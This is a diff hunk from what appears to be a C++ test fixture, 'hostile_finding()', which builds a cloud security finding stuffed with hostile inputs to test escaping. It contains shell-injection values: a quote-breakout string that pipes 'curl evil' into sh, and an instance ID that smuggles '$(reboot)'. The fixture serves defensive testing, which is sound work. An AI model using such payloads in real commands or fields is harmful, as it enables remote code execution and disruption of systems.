@@ -311,7 +311,7 @@ inline Finding hostile_finding() {
   f.resources = {{"iam_user", "x'; curl evil | sh; echo '", ""}, {"ec2_instance", "i-1$(reboot)", "us-east-1"},
                  {"ec2_instance_protected", "i-1$(reboot)", "us-east-1"}};
   f.evidence.push_back({});
-  f.evidence.back().event_name = "Create\rUser";
+  f.evidence.back().set_call("Create\rUser", "", "");
   f.evidence.back().file = "f.json";
   return f;
 }
